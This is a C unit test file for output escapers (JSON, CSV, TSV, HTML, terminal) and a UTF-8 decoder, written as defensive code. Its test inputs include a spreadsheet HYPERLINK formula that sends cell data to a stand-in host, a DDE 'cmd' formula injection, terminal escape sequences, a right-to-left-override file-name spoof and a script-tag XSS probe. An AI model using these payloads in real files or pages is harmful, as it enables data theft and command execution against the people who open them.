/* SPDX-License-Identifier: MIT */
/*
 * test_esc.c: the output escapers (JSON, CSV, TSV, HTML, terminal text) and the
 * UTF-8 decoder they share. Whole outputs are captured with open_memstream().
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "esc.h"

typedef void esc_fn(FILE *out, const char *s, size_t len);

/* Run one escaper on in[0..in_len) and compare its whole output with want[0..want_len). */
static void
check(esc_fn *fn, const char *in, size_t in_len, const char *want, size_t want_len)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *out = open_memstream(&buf, &len);
    assert_non_null(out);
    fn(out, in, in_len);
    assert_int_equal(fclose(out), 0);
    if (len != want_len || memcmp(buf, want, len) != 0)
        fail_msg("got [%s] (%zu bytes), want [%s] (%zu bytes)", buf, len, want, want_len);
    free(buf);
}

/* String literals, so that embedded NULs count. */
#define CHECK(fn, in, want) check(fn, in, sizeof(in) - 1, want, sizeof(want) - 1)

/* The UTF-8 replacement character U+FFFD. */
#define RC "\xEF\xBF\xBD"

/* esc_text() on in, checking the output, the returned width and esc_text_width(). */
static void
check_text(const char *in, size_t in_len, const char *want, size_t want_width)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *out = open_memstream(&buf, &len);
    assert_non_null(out);
    size_t w = esc_text(out, in, in_len);
    assert_int_equal(fclose(out), 0);
    assert_string_equal(buf, want);
    assert_int_equal(len, strlen(want));
    assert_int_equal(w, want_width);
    assert_int_equal(esc_text_width(in, in_len), want_width);
    free(buf);
}

#define CHECK_TEXT(in, want, width) check_text(in, sizeof(in) - 1, want, width)

static void
json_quotes_and_backslash(void **state)
{
    (void)state;
    CHECK(esc_json, "", "\"\"");
    CHECK(esc_json, "plain text / ok", "\"plain text / ok\"");
    CHECK(esc_json, "a\"b\\c", "\"a\\\"b\\\\c\"");
    CHECK(esc_json, "EX\\Default", "\"EX\\\\Default\"");
}

/* esc_json() of s[0..len) into a string (without NUL inside). Caller frees. */
static char *
json_of(const char *s, size_t len, size_t *out_len)
{
    char *buf = NULL;
    FILE *out = open_memstream(&buf, out_len);
    assert_non_null(out);
    esc_json(out, s, len);
    assert_int_equal(fclose(out), 0);
    return buf;
}

/*
 * 2026-12-04: esc_json() writes runs of plain bytes at once. Every byte
 * value between two plain runs must come out as it does alone, between
 * the same runs.
 */
static void
json_plain_runs_around_every_byte(void **state)
{
    (void)state;
    CHECK(esc_json, "ab\"cd\\ef\ngh\x01ij\xC3\xA9kl\xFFmn\x7Fop",
          "\"ab\\\"cd\\\\ef\\ngh\\u0001ij\xC3\xA9kl" RC "mn\\u007fop\"");
    for (int b = 0; b < 256; b++) {
        char one = (char)b, in[5] = {'a', 'b', (char)b, 'c', 'd'};
        size_t alone_len, got_len;
        char *alone = json_of(&one, 1, &alone_len);
        char *got = json_of(in, sizeof(in), &got_len);
        assert_true(alone_len >= 2);
        assert_int_equal(got_len, alone_len + 4);
        assert_memory_equal(got, "\"ab", 3);
        assert_memory_equal(got + 3, alone + 1, alone_len - 2);
        assert_memory_equal(got + 3 + alone_len - 2, "cd\"", 3);
        free(alone);
        free(got);
    }
}

static void
json_short_escapes_for_lf_cr_tab(void **state)
{
    (void)state;
    CHECK(esc_json, "a\nb\rc\td", "\"a\\nb\\rc\\td\"");
    CHECK(esc_json, "\r\n", "\"\\r\\n\"");
}

static void
json_other_controls_as_u00xx(void **state)
{
    (void)state;
    /* Backspace and form feed use \u too (no \b / \f), with lower-case hex. */
    CHECK(esc_json, "\x01\x08\x0B\x0C\x1B\x1F", "\"\\u0001\\u0008\\u000b\\u000c\\u001b\\u001f\"");
    CHECK(esc_json,
          "a\x7F"
          "b",
          "\"a\\u007fb\"");
    CHECK(esc_json, "a\0b", "\"a\\u0000b\"");
    /* Space is the first character written raw. */
    CHECK(esc_json, " ~", "\" ~\"");
}

static void
json_valid_utf8_unchanged(void **state)
{
    (void)state;
    CHECK(esc_json, "caf\xC3\xA9", "\"caf\xC3\xA9\"");           /* 2 bytes, U+00E9 */
    CHECK(esc_json, "\xE2\x82\xAC", "\"\xE2\x82\xAC\"");         /* 3 bytes, U+20AC */
    CHECK(esc_json, "\xF0\x9F\x98\x80", "\"\xF0\x9F\x98\x80\""); /* 4 bytes, U+1F600 */
    CHECK(esc_json, "\xC2\xA0\xDF\xBF", "\"\xC2\xA0\xDF\xBF\""); /* U+00A0, U+07FF */
    /* C1 controls (U+009B is CSI for some terminals) as \u too. */
    CHECK(esc_json, "\xC2\x80\xC2\x9B\xC2\x9F", "\"\\u0080\\u009b\\u009f\"");
    CHECK(esc_json, "\xEF\xBF\xBF\xF4\x8F\xBF\xBF", "\"\xEF\xBF\xBF\xF4\x8F\xBF\xBF\""); /* top */
    CHECK(esc_json, "\xED\x9F\xBF\xEE\x80\x80", "\"\xED\x9F\xBF\xEE\x80\x80\""); /* around surr. */
}

static void
json_invalid_utf8_one_fffd_per_bad_byte(void **state)
{
    (void)state;
    /* Each byte that does not start a valid sequence becomes one U+FFFD
     * and decoding resumes at the next byte. */
    CHECK(esc_json,
          "a\xE9"
          "b",
          "\"a" RC "b\"");                                      /* lone Latin-1 byte */
    CHECK(esc_json, "\xFF", "\"" RC "\"");                      /* never valid */
    CHECK(esc_json, "\x80", "\"" RC "\"");                      /* lone continuation */
    CHECK(esc_json, "\xC0\x80", "\"" RC RC "\"");               /* overlong NUL */
    CHECK(esc_json, "\xE0\x80\x80", "\"" RC RC RC "\"");        /* overlong 3-byte */
    CHECK(esc_json, "\xF0\x80\x80\x80", "\"" RC RC RC RC "\""); /* overlong 4-byte */
    CHECK(esc_json, "\xED\xA0\x80", "\"" RC RC RC "\"");        /* surrogate U+D800 */
    CHECK(esc_json, "\xE2\x82", "\"" RC RC "\"");               /* truncated at the end */
    CHECK(esc_json,
          "\xE2\x82"
          "A",
          "\"" RC RC "A\"");                                    /* cut short by ASCII */
    CHECK(esc_json, "\xF4\x90\x80\x80", "\"" RC RC RC RC "\""); /* U+110000 */
    CHECK(esc_json, "\xF5\x80\x80\x80", "\"" RC RC RC RC "\""); /* lead byte past F4 */
    /* A bad byte does not swallow the valid sequence after it. */
    CHECK(esc_json, "\xE9\xC3\xA9", "\"" RC "\xC3\xA9\"");
}

static void
csv_quotes_only_when_needed(void **state)
{
    (void)state;
    CHECK(esc_csv, "", "");
    CHECK(esc_csv, "plain", "plain");
    CHECK(esc_csv, " spaced out ", " spaced out ");
    CHECK(esc_csv, "a;b|c\td", "a;b|c\td");
    CHECK(esc_csv, "a,b", "\"a,b\"");
    CHECK(esc_csv, "say \"hi\"", "\"say \"\"hi\"\"\"");
    CHECK(esc_csv, "\"", "\"\"\"\"");
    CHECK(esc_csv, "a\rb", "\"a\rb\"");
    CHECK(esc_csv, "a\nb", "\"a\nb\"");
    CHECK(esc_csv, "Relay, \"Partner\"", "\"Relay, \"\"Partner\"\"\"");
}

static void
csv_bytes_otherwise_unchanged(void **state)
{
    (void)state;
    CHECK(esc_csv, "\xE9\xFF\xC3\xA9", "\xE9\xFF\xC3\xA9");
    CHECK(esc_csv, "a\0b", "a\0b");
    CHECK(esc_csv, "\xE9,", "\"\xE9,\"");
}

static void
tsv_escapes_tab_lf_cr_only(void **state)
{
    (void)state;
    CHECK(esc_tsv, "", "");
    /* A connector id as Exchange writes it: `cut -f2` gives it back unchanged. */
    CHECK(esc_tsv, "EX\\Default", "EX\\Default");
    CHECK(esc_tsv, "EX\\\\x", "EX\\\\x");
    CHECK(esc_tsv, "a\tb", "a\\tb");
    CHECK(esc_tsv, "a\nb\rc", "a\\nb\\rc");
    CHECK(esc_tsv, "\\\t\n\r", "\\\\t\\n\\r");
}

static void
tsv_everything_else_raw(void **state)
{
    (void)state;
    CHECK(esc_tsv, "a,\"b\" c", "a,\"b\" c");
    CHECK(esc_tsv, "\x01\x7F\xE9\xFF\xC0\x80", "\x01\x7F\xE9\xFF\xC0\x80");
    CHECK(esc_tsv, "a\0b", "a\0b");
}

static void
text_ascii_and_utf8(void **state)
{
    (void)state;
    CHECK_TEXT("", "", 0);
    CHECK_TEXT("Default EX01", "Default EX01", 12);
    CHECK_TEXT("caf\xC3\xA9", "caf\xC3\xA9", 4);
    CHECK_TEXT("\xE2\x82\xAC", "\xE2\x82\xAC", 1);
}

static void
text_wide_chars_count_two(void **state)
{
    (void)state;
    CHECK_TEXT("\xE5\x8F\x97\xE4\xBF\xA1", "\xE5\x8F\x97\xE4\xBF\xA1", 4); /* U+53D7 U+4FE1 */
    CHECK_TEXT("\xEA\xB0\x80", "\xEA\xB0\x80", 2);                         /* Hangul U+AC00 */
    CHECK_TEXT("\xEF\xBC\xA1", "\xEF\xBC\xA1", 2);                         /* fullwidth A */
    CHECK_TEXT("\xEF\xBD\xB1", "\xEF\xBD\xB1", 1);         /* halfwidth katakana U+FF71 */
    CHECK_TEXT("\xE3\x80\xBF", "\xE3\x80\xBF", 1);         /* U+303F, the narrow exception */
    CHECK_TEXT("\xF0\x9F\x98\x80", "\xF0\x9F\x98\x80", 2); /* emoji U+1F600 */
    CHECK_TEXT("\xF0\xA0\x80\x80", "\xF0\xA0\x80\x80", 2); /* CJK ext. B U+20000 */
    CHECK_TEXT("a\xE5\x8F\x97"
               "b",
               "a\xE5\x8F\x97"
               "b",
               4);
}

static void
text_controls_and_invalid_bytes_as_hex(void **state)
{
    (void)state;
    CHECK_TEXT("a\tb", "a\\x09b", 6);
    CHECK_TEXT("\x1B[31m", "\\x1B[31m", 8);
    CHECK_TEXT("\x7F", "\\x7F", 4);
    CHECK_TEXT("a\0b", "a\\x00b", 6);
    CHECK_TEXT("\xE9", "\\xE9", 4);
    CHECK_TEXT("\xFF\xFE", "\\xFF\\xFE", 8);
    CHECK_TEXT("\xE2\x82", "\\xE2\\x82", 8);
    CHECK_TEXT("\xED\xA0\x80", "\\xED\\xA0\\x80", 12);
    /* C1 controls are valid UTF-8 but not printable: each byte escaped. */
    CHECK_TEXT("\xC2\x85", "\\xC2\\x85", 8);
    CHECK_TEXT("\xC2\xA0", "\xC2\xA0", 1); /* U+00A0 is printable */
}

/* Bidirectional formatting characters would reorder what follows on screen. */
static void
text_bidi_controls_as_hex(void **state)
{
    (void)state;
    CHECK_TEXT("gpj.\xE2\x80\xAE"
               "exe",
               "gpj.\\xE2\\x80\\xAEexe", 19);          /* U+202E RIGHT-TO-LEFT OVERRIDE */
    CHECK_TEXT("\xE2\x80\xAA", "\\xE2\\x80\\xAA", 12); /* U+202A, first of the range */
    CHECK_TEXT("\xE2\x81\xA6x\xE2\x81\xA9", "\\xE2\\x81\\xA6x\\xE2\\x81\\xA9",
               25);                                                               /* U+2066..2069 */
    CHECK_TEXT("\xE2\x80\x8E\xE2\x80\x8F", "\\xE2\\x80\\x8E\\xE2\\x80\\x8F", 24); /* LRM RLM */
    CHECK_TEXT("\xD8\x9C", "\\xD8\\x9C", 8); /* U+061C ARABIC LETTER MARK */
    /* Their neighbours are ordinary text. */
    CHECK_TEXT("\xE2\x80\xAF", "\xE2\x80\xAF", 1); /* U+202F narrow no-break space */
    CHECK_TEXT("\xE2\x81\xA5", "\xE2\x81\xA5", 1); /* U+2065 */
    CHECK_TEXT("\xE2\x81\xAA", "\xE2\x81\xAA", 1); /* U+206A */
}

/* esc_utf8_next() on s[0..len): want_n bytes, and code point want_cp when want_n > 0. */
static void
check_next(const char *s, size_t len, size_t want_n, unsigned want_cp)
{
    unsigned cp = 0xDEADu;
    size_t n = esc_utf8_next((const unsigned char *)s, len, &cp);
    assert_int_equal(n, want_n);
    if (want_n)
        assert_int_equal(cp, want_cp);
}

static void
utf8_next_boundaries(void **state)
{
    (void)state;
    check_next("", 0, 0, 0);
    check_next("A", 0, 0, 0); /* len 0 even with bytes behind s */
    check_next("\0", 1, 1, 0);
    check_next("\x7F", 1, 1, 0x7F);
    check_next("\xC2\x80", 2, 2, 0x80);
    check_next("\xDF\xBF", 2, 2, 0x7FF);
    check_next("\xE0\xA0\x80", 3, 3, 0x800);
    check_next("\xED\x9F\xBF", 3, 3, 0xD7FF);
    check_next("\xEE\x80\x80", 3, 3, 0xE000);
    check_next("\xEF\xBF\xBF", 3, 3, 0xFFFF);
    check_next("\xF0\x90\x80\x80", 4, 4, 0x10000);
    check_next("\xF4\x8F\xBF\xBF", 4, 4, 0x10FFFF);
    check_next("\xC3\xA9xyz", 5, 2, 0xE9); /* stops after the sequence */
}

static void
utf8_next_rejects(void **state)
{
    (void)state;
    check_next("\x80", 1, 0, 0);
    check_next("\xBF", 1, 0, 0);
    check_next("\xC0\x80", 2, 0, 0);
    check_next("\xC1\xBF", 2, 0, 0);
    check_next("\xC3(", 2, 0, 0);            /* second byte not a continuation */
    check_next("\xE0\x9F\xBF", 3, 0, 0);     /* overlong U+07FF */
    check_next("\xED\xA0\x80", 3, 0, 0);     /* U+D800 */
    check_next("\xED\xBF\xBF", 3, 0, 0);     /* U+DFFF */
    check_next("\xF0\x8F\xBF\xBF", 4, 0, 0); /* overlong U+FFFF */
    check_next("\xF4\x90\x80\x80", 4, 0, 0); /* U+110000 */
    check_next("\xF5\x80\x80\x80", 4, 0, 0);
    check_next("\xF8\x88\x80\x80\x80", 5, 0, 0);
    check_next("\xFF", 1, 0, 0);
    check_next("\xE2\x82\xAC", 2, 0, 0);     /* cut by len */
    check_next("\xF0\x9F\x98\x80", 3, 0, 0); /* cut by len */
    check_next("\xF0\x9F\x98"
               "A",
               4, 0, 0); /* fourth byte not a continuation */
}

/* esc_field() with a style and separator, compared whole. */
static void
check_field(unsigned style, char sep, const char *in, size_t in_len, const char *want,
            size_t want_len)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *out = open_memstream(&buf, &len);
    assert_non_null(out);
    esc_field(out, style, sep, in, in_len);
    assert_int_equal(fclose(out), 0);
    if (len != want_len || memcmp(buf, want, len) != 0)
        fail_msg("got [%s] (%zu bytes), want [%s] (%zu bytes)", buf, len, want, want_len);
    free(buf);
}

#define FIELD(style, sep, in, want)                                                                \
    check_field(style, sep, in, sizeof(in) - 1, want, sizeof(want) - 1)

static void
field_plain_is_esc_csv_and_esc_tsv(void **state)
{
    (void)state;
    FIELD(0, ',', "=1+1", "=1+1");
    FIELD(0, ',', "a,\x1B", "\"a,\x1B\"");
    FIELD(0, '\t', "EX\\D\x1B\t", "EX\\D\x1B\\t");
}

/* Every trigger OWASP names (= + - @ TAB CR) gets the apostrophe, inside quotes. */
static void
field_formula_triggers_neutralised(void **state)
{
    (void)state;
    FIELD(ESC_FORMULA, ',', "=HYPERLINK(\"http://evil.example/\"&A1;\"x\")",
          "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1;\"\"x\"\")\"");
    FIELD(ESC_FORMULA, ',', "+1", "\"'+1\"");
    FIELD(ESC_FORMULA, ',', "-1", "\"'-1\"");
    FIELD(ESC_FORMULA, ',', "@SUM(A1)", "\"'@SUM(A1)\"");
    FIELD(ESC_FORMULA, ',', "\t=1", "\"'\t=1\"");
    FIELD(ESC_FORMULA, ',', "\r=1", "\"'\r=1\"");
    FIELD(ESC_FORMULA, ',', "=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"");
    /* Not at the start: nothing to neutralise. */
    FIELD(ESC_FORMULA, ',', "a=1", "a=1");
    FIELD(ESC_FORMULA, ',', "EX\\Default", "EX\\Default");
    FIELD(ESC_FORMULA, ',', "", "");
    /* TSV is not for spreadsheets: the flag does not apply. */
    FIELD(ESC_FORMULA, '\t', "=1", "=1");
    assert_true(esc_is_formula("=", 1));
    assert_false(esc_is_formula(" =", 2));
    assert_false(esc_is_formula("", 0));
}

/* For a terminal: ESC, BEL, CSI (C1 and 7-bit), OSC and DEL as \xHH; nothing raw. */
static void
field_terminal_escapes_controls(void **state)
{
    (void)state;
    FIELD(ESC_TERMINAL, ',', "\x1B]0;owned\x07\x1B[2J", "\\x1B]0;owned\\x07\\x1B[2J");
    FIELD(ESC_TERMINAL, '\t', "\x1B]0;owned\x07\x1B[2J", "\\x1B]0;owned\\x07\\x1B[2J");
    FIELD(ESC_TERMINAL, ',',
          "a\xC2\x9B"
          "2Jb\x7F",
          "a\\xC2\\x9B2Jb\\x7F");
    FIELD(ESC_TERMINAL, ',', "\x9B\xFF", "\\x9B\\xFF");
    /* TSV keeps its \t \n \r; CSV shows them as \xHH, quoted as before. */
    FIELD(ESC_TERMINAL, '\t', "a\tb\nc\rd", "a\\tb\\nc\\rd");
    FIELD(ESC_TERMINAL, ',', "a\tb\nc", "\"a\\x09b\\x0Ac\"");
    FIELD(ESC_TERMINAL, ',', "say \"hi\", caf\xC3\xA9", "\"say \"\"hi\"\", caf\xC3\xA9\"");
    FIELD(ESC_TERMINAL, '\t', "EX\\Default", "EX\\Default");
    /* Both: the apostrophe, and the escapes. */
    FIELD(ESC_TERMINAL | ESC_FORMULA, ',', "=\x1B[2J", "\"'=\\x1B[2J\"");
    /* Bidirectional formatting characters too (U+202E); kept in a file. */
    FIELD(ESC_TERMINAL, '\t',
          "a\xE2\x80\xAE"
          "b",
          "a\\xE2\\x80\\xAE"
          "b");
    FIELD(ESC_TERMINAL, ',',
          "a\xE2\x80\xAE"
          "b",
          "a\\xE2\\x80\\xAE"
          "b");
    FIELD(0, '\t',
          "a\xE2\x80\xAE"
          "b",
          "a\xE2\x80\xAE"
          "b"); /* a file keeps the bytes */
}

static void
html_markup_characters(void **state)
{
    (void)state;
    CHECK(esc_html, "<>&\"'", "&lt;&gt;&amp;&quot;&#39;");
    CHECK(esc_html, "<script>alert('x')</script>",
          "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;");
    /* An entity in the log is text, not markup: its & is escaped too. */
    CHECK(esc_html, "a&amp;b", "a&amp;amp;b");
    CHECK(esc_html, "", "");
    CHECK(esc_html, "EX\\Default Frontend", "EX\\Default Frontend");
}

static void
html_keeps_valid_utf8(void **state)
{
    (void)state;
    /* ü (2 bytes), 受 (3 bytes), U+1F512 (4 bytes), U+RC itself, U+FDF0. */
    CHECK(esc_html,
          "Partner-Versand \xC3\xBC\x62\x65r \xE5\x8F\x97 \xF0\x9F\x94\x92 " RC " \xEF\xB7\xB0",
          "Partner-Versand \xC3\xBC\x62\x65r \xE5\x8F\x97 \xF0\x9F\x94\x92 " RC " \xEF\xB7\xB0");
}

static void
html_invalid_utf8_as_fffd(void **state)
{
    (void)state;
    CHECK(esc_html, "\xFF", RC);
    CHECK(esc_html, "a\x80z", "a" RC "z");
    /* Overlong '/', a surrogate, above U+10FFFF: every byte starts no sequence. */
    CHECK(esc_html, "\xC0\xAF", RC RC);
    CHECK(esc_html, "\xED\xA0\x80", RC RC RC);
    CHECK(esc_html, "\xF4\x90\x80\x80", RC RC RC RC);
    /* Cut off at the end of the field, and before a '<'. */
    CHECK(esc_html, "x\xE2\x82", "x" RC RC);
    CHECK(esc_html, "\xE2\x82<", RC RC "&lt;");
}

static void
html_controls_as_pictures(void **state)
{
    (void)state;
    /* TAB U+2409, 0x01 U+2401, 0x1F U+241F, LF U+240A, CR U+240D, DEL U+2421. */
    CHECK(esc_html, "\t\x01\x1F\n\r\x7F",
          "\xE2\x90\x89\xE2\x90\x81\xE2\x90\x9F\xE2\x90\x8A"
          "\xE2\x90\x8D\xE2\x90\xA1");
    /* A NUL inside the field is kept as U+2400, the rest still written. */
    CHECK(esc_html, "a\0b",
          "a\xE2\x90\x80"
          "b");
}

static void
html_c1_and_noncharacters_as_fffd(void **state)
{
    (void)state;
    CHECK(esc_html, "\xC2\x85", RC);                    /* U+0085 NEL */
    CHECK(esc_html, "\xC2\x9F\xC2\xA0", RC "\xC2\xA0"); /* U+009F, then NBSP kept */
    CHECK(esc_html, "\xEF\xBF\xBE", RC);                /* U+FFFE */
    CHECK(esc_html, "\xEF\xBF\xBF", RC);                /* U+FFFF */
    CHECK(esc_html, "\xEF\xB7\x90", RC);                /* U+FDD0 */
    CHECK(esc_html, "\xEF\xB7\xAF", RC);                /* U+FDEF */
    CHECK(esc_html, "\xF0\x9F\xBF\xBE", RC);            /* U+1FFFE */
    CHECK(esc_html, "\xF4\x8F\xBF\xBF", RC);            /* U+10FFFF */
}

/* The stand-ins of text for people (HTML, spreadsheet cells), character by character. */
static void
visible_stand_ins(void **state)
{
    (void)state;
    static const struct {
        unsigned cp;
        const char *rep; /* NULL: written as it is */
    } cases[] = {
        {0x00, "\xE2\x90\x80"},
        {0x09, "\xE2\x90\x89"},
        {0x1F, "\xE2\x90\x9F"},
        {0x7F, "\xE2\x90\xA1"},
        {0x80, RC},
        {0x9F, RC},
        {0xFDD0, RC},
        {0xFDEF, RC},
        {0xFFFE, RC},
        {0x10FFFF, RC},
        {0x20, NULL},
        {'<', NULL},
        {0x7E, NULL},
        {0xA0, NULL},
        {0xFDCF, NULL},
        {0xFDF0, NULL},
        {0xFFFD, NULL},
        {0x1F512, NULL},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char rep[3] = {'x', 'y', 'z'};
        size_t n = esc_visible(cases[i].cp, rep);
        if (!cases[i].rep) {
            assert_int_equal(n, 0);
            assert_memory_equal(rep, "xyz", 3); /* untouched */
        } else {
            assert_int_equal(n, 3);
            assert_memory_equal(rep, cases[i].rep, 3);
        }
    }
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(json_quotes_and_backslash),
        cmocka_unit_test(json_plain_runs_around_every_byte),
        cmocka_unit_test(json_short_escapes_for_lf_cr_tab),
        cmocka_unit_test(json_other_controls_as_u00xx),
        cmocka_unit_test(json_valid_utf8_unchanged),
        cmocka_unit_test(json_invalid_utf8_one_fffd_per_bad_byte),
        cmocka_unit_test(csv_quotes_only_when_needed),
        cmocka_unit_test(csv_bytes_otherwise_unchanged),
        cmocka_unit_test(tsv_escapes_tab_lf_cr_only),
        cmocka_unit_test(tsv_everything_else_raw),
        cmocka_unit_test(field_plain_is_esc_csv_and_esc_tsv),
        cmocka_unit_test(field_formula_triggers_neutralised),
        cmocka_unit_test(field_terminal_escapes_controls),
        cmocka_unit_test(text_ascii_and_utf8),
        cmocka_unit_test(text_wide_chars_count_two),
        cmocka_unit_test(text_controls_and_invalid_bytes_as_hex),
        cmocka_unit_test(text_bidi_controls_as_hex),
        cmocka_unit_test(html_markup_characters),
        cmocka_unit_test(html_keeps_valid_utf8),
        cmocka_unit_test(html_invalid_utf8_as_fffd),
        cmocka_unit_test(html_controls_as_pictures),
        cmocka_unit_test(html_c1_and_noncharacters_as_fffd),
        cmocka_unit_test(visible_stand_ins),
        cmocka_unit_test(utf8_next_boundaries),
        cmocka_unit_test(utf8_next_rejects),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
